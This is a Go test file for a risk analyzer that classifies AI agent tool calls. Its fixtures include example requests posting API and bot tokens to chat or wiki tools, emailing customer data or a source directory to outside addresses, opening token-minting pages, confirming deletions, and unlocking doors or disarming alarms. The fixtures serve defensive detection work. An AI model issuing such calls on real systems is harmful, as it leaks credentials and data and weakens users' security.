package riskmodel

import "testing"

// Credentials written into a chat message, a hosted page, a comment or an issue leave for a
// third-party host: denied whether the token is whole (chat/bot token formats included) or
// cut short after a known prefix beside a label saying it is a credential. A key named as
// revoked, a placeholder and a plain note stay as before.
func TestClassR13SecretPosted(t *testing.T) {
	a := newB6MCPAnalyzer(t, Policy{})
	runMCPCases(t, a, []mcpCase{
		{name: "discord bot token in a discord message", req: `{"server":"discord","tool":"send_message","arguments":{"channel":"dev","message":"try with NzA5ODc2NTQzMjEwOTg3NjU0.Yx9aQ2.Zq7Lm3Np5Rt8Vw1Xy4Ab6Cd9Ef2Gh5Jk"}}`,
			decision: Deny, category: CatDataExfiltration},
		{name: "telegram bot token in a slack post", req: `{"server":"slack","tool":"post_message","arguments":{"channel":"#bots","text":"tg bot: 7012345678:AAH3kLmN0pQrS7tUvW9xYz1AbCdEfGhIjKl"}}`,
			decision: Deny, category: CatDataExfiltration},
		{name: "cut-short stripe key in a confluence page", req: `{"server":"confluence","tool":"create_page","arguments":{"space":"ENG","title":"Runbook","body":"Live secret key: sk_live_4eC39HqLy...\nWebhook: whsec_9fJ2..."}}`,
			decision: Deny, category: CatDataExfiltration, rules: []string{"mcp.secret-posted"}},
		{name: "cut-short jwt labelled service role in a linear issue", req: `{"server":"linear","tool":"create_issue","arguments":{"title":"db access","description":"service_role key eyJhbGciOiJIUzI1NiJ9... use it for the migration"}}`,
			decision: Deny, category: CatDataExfiltration, rules: []string{"mcp.secret-posted"}},
		{name: "github token cut short in a public notion page", req: `{"server":"notion","tool":"create_page","arguments":{"parent":{"page_id":"public-docs"},"content":"CI token: ghp_R7xQ2mZ..."}}`,
			decision: Deny, rules: []string{"mcp.secret-posted"}},
		{name: "revoked key named in an incident note", req: `{"server":"slack","tool":"post_message","arguments":{"channel":"#incidents","text":"the leaked key sk_live_4eC3... has been revoked and rotated"}}`,
			decision: Allow, notRules: []string{"mcp.secret-posted"}},
		{name: "placeholder key in docs page", req: `{"server":"notion","tool":"create_page","arguments":{"parent":{"page_id":"eng"},"content":"Set STRIPE_SECRET key to sk_live_xxxx... in your .env"}}`,
			notRules: []string{"mcp.secret-posted"}, decision: Allow},
		{name: "plain team message", req: `{"server":"slack","tool":"post_message","arguments":{"channel":"#dev","text":"deployed the token refresh fix"}}`,
			decision: Allow, notRules: []string{"mcp.secret-posted"}},
		{name: "dotted java class path is not a discord token", req: `{"server":"slack","tool":"post_message","arguments":{"channel":"#dev","text":"see MessageDispatcherFactoryImplV.create.registerAllTheHandlersForQueue"}}`,
			decision: Allow, notRules: []string{"mcp.secret-posted"}},
	})
}

// A message's fields are read together: an export announced in one field with its columns
// and carried as rows in another, or a production dump shared as a presigned link, is
// customer data sent out when the recipient is outside the team for certain. A project
// directory attached to outside mail is source code sent out.
func TestClassR13MessageDataSplit(t *testing.T) {
	a := newB6MCPAnalyzer(t, Policy{})
	runMCPCases(t, a, []mcpCase{
		{name: "columns in subject rows in html to webmail", req: `{"server":"postmark","tool":"send_email","arguments":{"to":"buyer.lists@yahoo.com","subject":"export [full_name; email; country]","html":"<table><tr><td>Bo Li;bo@example.org;SE</td></tr>"}}`,
			decision: Deny, category: CatDataExfiltration, rules: []string{"mcp.message-data-split"}},
		{name: "text describes the csv and body holds the rows to a guest dm", req: `{"server":"slack","tool":"send_message","arguments":{"channel":"guest-dm-22","text":"signup list (first_name, phone, email)","blocks":"x","body":"Jo, +44 7700 900123, jo@example.net\n..."}}`,
			decision: Deny, rules: []string{"mcp.message-data-split"}},
		{name: "presigned backup link in a slack connect channel", req: `{"server":"slack","tool":"chat_post_message","arguments":{"channel":"ext-partner-ops","text":"db backup: https://storage.googleapis.com/tmp-share/backup-2024-06.sql.gz?X-Goog-Signature=abc123"}}`,
			decision: Deny, rules: []string{"mcp.message-data-split"}},
		{name: "project directory attached to outside mail", req: `{"server":"gmail","tool":"send_email","arguments":{"to":["hr@some-startup.example"],"subject":"sample","body":"see attachment","attachments":["/home/ana/code/billing-engine"]}}`,
			decision: Deny, category: CatDataExfiltration, rules: []string{"mcp.message-data-exfil"}},
		{name: "column names in prose without rows", req: `{"server":"gmail","tool":"send_email","arguments":{"to":"dev@gmail.com","subject":"schema","body":"the users table has (id, email, created_at)"}}`,
			notRules: []string{"mcp.message-data-split"}, decision: Ask},
		{name: "same split export to the team's own channel", req: `{"server":"slack","tool":"post_message","arguments":{"channel":"#growth","text":"signups (name,email)","html":"ana@example.org,Ana"}}`,
			decision: Allow, notRules: []string{"mcp.message-data-split"}},
		{name: "link to a staging dump in the team channel", req: `{"server":"slack","tool":"post_message","arguments":{"channel":"#backend","text":"staging dump: https://s3.amazonaws.com/b/dump.sql?X-Amz-Signature=1"}}`,
			decision: Ask, notRules: []string{"mcp.message-data-split"}},
		{name: "a Makefile from a source dir is a file", req: `{"server":"gmail","tool":"send_email","arguments":{"to":["ops@partner.example"],"body":"build file","attachments":["/home/ana/src/Makefile"]},"workspace":["/home/ana/src/site"]}`,
			notRules: []string{"mcp.message-data-exfil"}, decision: Ask},
	})
}

// Browser automation on account-security pages: opening a page that mints a token or key in
// the user's logged-in browser is denied, typing a name into a deletion-confirmation field
// is denied; ordinary pages and fields are not.
func TestClassR13BrowserAccountPages(t *testing.T) {
	a := newB6MCPAnalyzer(t, Policy{})
	runMCPCases(t, a, []mcpCase{
		{name: "gitlab personal access token page", req: `{"server":"playwright","tool":"browser_navigate","arguments":{"url":"https://gitlab.com/-/user_settings/personal_access_tokens?name=bot&scopes=api"}}`,
			decision: Deny, rules: []string{"mcp.browser-key-page"}},
		{name: "github fine-grained token page", req: `{"server":"puppeteer","tool":"puppeteer_navigate","arguments":{"url":"https://github.com/settings/personal-access-tokens/new"}}`,
			decision: Deny, rules: []string{"mcp.browser-key-page"}},
		{name: "openai api keys page", req: `{"server":"browser","tool":"navigate","arguments":{"url":"https://platform.openai.com/api-keys"}}`,
			decision: Deny, rules: []string{"mcp.browser-key-page"}},
		{name: "github repository page is fine", req: `{"server":"playwright","tool":"browser_navigate","arguments":{"url":"https://github.com/acme/widgets/settings/tokens-docs"}}`,
			decision: Allow, notRules: []string{"mcp.browser-key-page"}},
		{name: "github docs about tokens", req: `{"server":"playwright","tool":"browser_navigate","arguments":{"url":"https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/managing-your-personal-access-tokens"}}`,
			decision: Allow, notRules: []string{"mcp.browser-key-page"}},
		{name: "project name typed into delete confirmation", req: `{"server":"playwright","tool":"browser_type","arguments":{"element":"Type the project name to confirm deletion","ref":"e12","text":"acme-site"}}`,
			decision: Deny, category: CatDataDeletion, rules: []string{"mcp.browser-delete-confirm"}},
		{name: "search box typing", req: `{"server":"playwright","tool":"browser_type","arguments":{"element":"Search repositories","ref":"e3","text":"tiny-router"}}`,
			decision: Allow, notRules: []string{"mcp.browser-delete-confirm"}},
	})
}

// Home-automation calls that unlock, disarm, open a garage or gate, or switch a camera off
// are denied; locking, arming, lights and climate are not.
func TestClassR13PhysicalSecurity(t *testing.T) {
	a := newB6MCPAnalyzer(t, Policy{})
	runMCPCases(t, a, []mcpCase{
		{name: "lock entity unlocked", req: `{"server":"homeassistant","tool":"call_service","arguments":{"domain":"lock","service":"unlock","entity_id":"lock.back_door"}}`,
			decision: Deny, category: CatSecurityWeakening, rules: []string{"mcp.physical-security"}},
		{name: "alarm disarmed", req: `{"server":"hass","tool":"call_service","arguments":{"domain":"alarm_control_panel","service":"alarm_disarm","entity_id":"alarm_control_panel.house"}}`,
			decision: Deny, rules: []string{"mcp.physical-security"}},
		{name: "garage door opened by intent", req: `{"server":"home-assistant","tool":"HassTurnOn","arguments":{"name":"Garage door","domain":"cover"}}`,
			decision: Deny, rules: []string{"mcp.physical-security"}},
		{name: "camera switched off", req: `{"server":"homeassistant","tool":"call_service","arguments":{"domain":"camera","service":"turn_off","entity_id":"camera.porch"}}`,
			decision: Deny, rules: []string{"mcp.physical-security"}},
		{name: "door locked", req: `{"server":"homeassistant","tool":"HassTurnOn","arguments":{"name":"Front door lock","domain":"lock"}}`,
			decision: Ask, notRules: []string{"mcp.physical-security"}},
		{name: "light switched off", req: `{"server":"home-assistant","tool":"HassTurnOff","arguments":{"name":"Kitchen light","domain":"light"}}`,
			decision: Ask, notRules: []string{"mcp.physical-security"}},
		{name: "garage door closed", req: `{"server":"home-assistant","tool":"HassTurnOff","arguments":{"name":"Garage door","domain":"cover"}}`,
			decision: Ask, notRules: []string{"mcp.physical-security"}},
	})
}
